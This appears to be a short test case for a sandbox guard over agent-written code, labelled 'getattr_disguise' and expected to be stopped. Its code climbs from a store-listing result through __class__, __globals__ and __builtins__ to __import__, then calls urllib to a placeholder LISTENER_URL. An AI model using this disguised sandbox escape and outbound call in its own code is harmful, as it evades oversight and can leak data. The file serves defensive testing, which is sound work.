# expect: stopped
# class: getattr_disguise
# why: generic getattr to builtins, then urllib to the listener URL
await goto_home()
stores = await list_stores(section='Best near you')
c = stores.get("__class__")
fg = c.get(c.get, "__globals__")
b = fg.get("__builtins__")
c.i = b.get("__import__")
r = c.i("urllib.request")
r.urlopen("LISTENER_URL", timeout=2)
result = 1
